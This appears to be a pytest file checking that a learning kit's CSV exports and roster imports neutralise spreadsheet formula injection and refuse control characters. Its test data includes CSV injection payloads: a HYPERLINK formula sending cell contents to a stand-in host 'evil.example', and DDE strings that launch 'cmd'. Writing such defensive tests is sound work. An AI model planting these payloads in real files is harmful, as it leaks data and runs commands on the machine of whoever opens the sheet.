"""Attack: a name, an institution or a URL parameter that is a spreadsheet formula.

A learner who calls themselves `=HYPERLINK("http://evil.example/?"&A2,"Open")`, or a visitor
who opens the self-assessment with `?institution=@SUM(1+1)`, must not get a live formula
into any CSV file the kit writes (the facilitator opens them in Excel or LibreOffice). Every
writer goes through `competence_profile.spreadsheet` (OWASP's rule: a quote before a formula
start); the one CSV reader (`digiculture.csv_rows`) refuses control characters, naming the
line and the column.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from competence_profile.spreadsheet import FORMULA_START, csv_writer, restore_cell, safe_cell
from tests.digiculture.grading.conftest import course_template  # noqa: F401 (a fixture)

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    """No cell of the CSV text starts a formula (each hostile one carries its quote)."""
    live = [c for c in cells(text) if c.startswith(FORMULA_START) and not _number(c)]
    assert live == [], live


def _number(cell: str) -> bool:
    return bool(re.fullmatch(r"[+-]?\d+(\.\d*)?", cell))


@pytest.mark.parametrize("value", HOSTILE[:5])
def test_safe_cell_quotes_every_formula_start_and_restore_undoes_it(value):
    safe = safe_cell(value)
    assert safe == "'" + value
    assert restore_cell(safe) == value


def test_a_carriage_return_cannot_break_a_cell_or_start_a_formula():
    assert safe_cell("\r=1+1") == "'\n=1+1"
    assert safe_cell("a\r\nb\rc") == "a\nb\nc"
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(["x\ry", "z"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["x\ny", "z"]]


@pytest.mark.parametrize("value", ["Anna", "-3", "-0.5", "+4", 12, -7.5, None, "'quoted", ""])
def test_safe_cell_leaves_text_and_numbers_alone(value):
    assert safe_cell(value) == value


def test_no_module_writes_csv_around_the_helper():
    """A new CSV writer that forgets the helper is found here (csv.writer/DictWriter)."""
    offenders = []
    for path in [*REPO.glob("competence_profile/**/*.py"), *REPO.glob("digiculture/**/*.py")]:
        if path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", text):
            offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


def test_gradebook_csv_neutralises_a_learner_id():
    from digiculture.grading.gradebook import Row, render

    rows = [Row(HOSTILE[0], "u01", -1.0, 5.0, "graded", HOSTILE[3])]
    text = render(rows, "csv")
    assert_no_formula(text)
    assert "'" + HOSTILE[0] in cells(text) and "-1" in cells(text)


def test_all_attempts_csv_neutralises_cohort_and_institution(tmp_path):
    from assessment.store import ResultStore
    from digiculture.cli.assess import attempts_csv

    store = ResultStore(f"sqlite:///{tmp_path / 'r.sqlite'}")
    store.save_attempt(
        code=None,
        language="de",
        role=HOSTILE[2],
        answers={},
        result={"areas": {}, "competences": {}},
        recommendations=[],
        cohort=HOSTILE[0],
        institution=HOSTILE[3],
    )
    text = attempts_csv(store)
    assert_no_formula(text)
    assert {"'" + HOSTILE[0], "'" + HOSTILE[3]} <= set(cells(text))


def test_outcomes_tables_csv_neutralises_cells():
    from digiculture.outcomes.tables import Table, to_csv

    table = Table("k", HOSTILE[4], "", ["name", "value"], [[HOSTILE[1], HOSTILE[5]]])
    assert_no_formula(to_csv([table]))


def test_mentoring_sample_roster_neutralises_names():
    from digiculture.course.roster import Learner
    from digiculture.mentoring.sample import roster_csv

    learner = Learner(
        id="m-001",
        name=HOSTILE[0],
        country="DE",
        languages=("de",),
        role=HOSTILE[3],
        institution_type="museum",
        wants="mentee",
    )
    assert_no_formula(roster_csv([learner], {"m-001": {}}))


def test_profile_csv_neutralises_a_translated_title():
    from competence_profile import load_profile
    from competence_profile.export import to_csv

    profile = load_profile()
    area = profile.areas[0]
    object.__setattr__(area, "title", HOSTILE[0])
    assert_no_formula(to_csv(profile, profile.source_language))


def test_writer_wrapper_quotes_rows():
    out = io.StringIO()
    csv_writer(out).writerows([HOSTILE[:3], HOSTILE[3:]])
    assert_no_formula(out.getvalue())


@pytest.mark.slow
def test_course_roster_csv_neutralises_and_reads_back(tmp_path, course_template):  # noqa: F811
    """The course's roster.csv (opened by facilitators) keeps names but no live formula."""
    import shutil

    from digiculture.course.roster import ROSTER_FILE, load_course_roster
    from digiculture.course.roster_import import import_roster

    course = tmp_path / "course"
    shutil.copytree(course_template, course)
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)  # the attacker's file: raw formulas
        writer.writerow(["id", "name", "email", "country", "language", "institution"])
        writer.writerow(["de-001", "=1+1 Becker", "", "DE", "de", "@SUM(A1:A9)"])
    problems = import_roster(course, roster).problems
    assert problems == [], problems
    written = (course / ROSTER_FILE).read_text(encoding="utf-8")
    assert_no_formula(written)
    assert "'=1+1 Becker" in written and "'@SUM(A1:A9)" in written
    # The kit reads its own file back as it was given (no quote piling up).
    learner = load_course_roster(course)["de-001"]
    assert (learner.name, learner.institution) == ("=1+1 Becker", "@SUM(A1:A9)")
    import_roster(course, roster)
    assert (course / ROSTER_FILE).read_text(encoding="utf-8") == written


@pytest.mark.parametrize(
    ("cell", "code"), [("Anna\x00", "U+0000"), ("Museum\x1b[2J", "U+001B"), ("a\tb", "U+0009")]
)
def test_roster_import_refuses_control_characters(tmp_path, cell, code):
    from digiculture.course.roster import read_roster

    roster = tmp_path / "roster.csv"
    roster.write_text(
        "id,name,email,country,language,institution\n"
        f'de-001,"{cell}",,DE,de,Stadtmuseum\n'
        "de-002,Ben,,DE,de,Stadtmuseum\n",
        encoding="utf-8",
    )
    learners, problems = read_roster(roster, label="roster.csv")
    assert learners == []
    assert [str(p) for p in problems] == [
        f"roster.csv: line 2, column name: contains an invisible control character ({code}): "
        "retype this value in the spreadsheet (do not paste it) and save the file again"
    ]


def test_mentoring_roster_import_refuses_control_characters(tmp_path):
    from competence_profile import load_profile
    from digiculture.mentoring.roster import parse_roster

    text = (
        "learner_id,name,country,languages,role,institution_type,wants\n"
        "m-001,Ana\x07,HR,hr,collections,museum,mentee\n"
    )
    _, problems = parse_roster(text, load_profile(), levels_required=False)
    assert any("line 2, column name: contains an invisible control" in str(p) for p in problems)
